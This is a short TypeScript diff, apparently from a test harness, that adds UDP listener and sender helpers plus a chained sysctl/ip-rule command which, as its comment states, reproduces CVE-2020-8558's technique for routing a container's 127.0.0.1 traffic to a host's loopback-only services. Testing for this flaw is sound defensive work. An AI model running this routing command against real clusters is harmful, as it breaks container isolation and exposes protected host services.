@@ -70,3 +70,24 @@ export function client(proto: 'tcp' | 'udp', host: string, port: number): string
       : `const u=require('dgram').createSocket('udp4');u.on('message',m=>{process.stdout.write(m);process.exit(0)});u.send('x',${port},'${host}');setTimeout(()=>process.exit(1),1500)`;
   return ['node', '-e', js];
 }
+
+/** A UDP service on the host's 127.0.0.1 only: prints "listening", then each datagram. */
+export const loopbackListener = (port: number): string =>
+  `const d=require('dgram').createSocket('udp4');d.on('message',(m)=>console.log(String(m)));d.bind(${port},'127.0.0.1',()=>console.log('listening'))`;
+
+/**
+ * Run in a container (root in its namespace): route 127.0.0.1 through the gateway, with
+ * route_localnet on its own eth0 and the local table looked up after that route — what
+ * CVE-2020-8558's exploit does to reach a host's loopback-only services.
+ */
+export const ROUTE_LOOPBACK_TO_GATEWAY = [
+  'sysctl -qw net.ipv4.conf.eth0.route_localnet=1',
+  'ip rule add pref 100 lookup local',
+  'ip rule del pref 0',
+  'ip route add 127.0.0.1/32 via $(ip route show default | cut -d" " -f3) dev eth0 table 100',
+  'ip rule add pref 10 to 127.0.0.1 lookup 100',
+].join(' && ');
+
+/** Send msg three times, 100 ms apart, to 127.0.0.1:port (node -e). */
+export const sendToLoopback = (msg: string, port: number): string =>
+  `const d=require('dgram').createSocket('udp4');let i=0;const t=setInterval(()=>{d.send('${msg}',${port},'127.0.0.1');if(++i===3){clearInterval(t);setTimeout(()=>d.close(),100)}},100)`;
